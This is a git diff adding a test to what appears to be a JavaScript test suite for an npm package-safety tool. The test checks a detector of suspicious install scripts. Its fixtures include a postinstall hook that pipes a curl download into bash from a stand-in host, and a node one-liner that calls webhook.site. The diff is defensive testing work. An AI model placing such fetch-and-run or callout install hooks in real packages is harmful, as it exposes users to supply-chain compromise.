@@ -75,3 +75,14 @@ describe('the feed\'s own note: once per run', () => {
     expect(feedNotice({ feed: { ...npmFeed, fetchedAt: new Date(NOW.getTime() - 7 * 86_400_000).toISOString() } }, NOW, 'safe-npm')).toBeUndefined();
   });
 });
+
+describe('install-script-content check (what the registry says the scripts are)', () => {
+  it('a curl | sh command blocks, a webhook URL warns, esbuild\'s command says nothing', async () => {
+    const { installScriptContent } = await import('../../../src/checks/install-script-content.js');
+    const ctx = makeContext();
+    const run = (scripts: Record<string, string>) => installScriptContent.run(makeFacts({ name: 'x', version: '1.0.1', installScripts: scripts }), ctx).map((f) => `${f.severity}: ${f.message}`);
+    expect(run({ postinstall: 'curl -fsSL https://example.invalid/s.sh | bash' })).toEqual(['block: x@1.0.1 install script: pipes a download into an interpreter (package.json (postinstall))']);
+    expect(run({ install: 'node -e "fetch(\'https://webhook.site/abc\')"' })).toEqual(['warn: x@1.0.1 install script: a URL to webhook.site (paste site, webhook, tunnel or shortener) (package.json (install))']);
+    expect(run({ postinstall: 'node install.js' })).toEqual([]);
+  });
+});
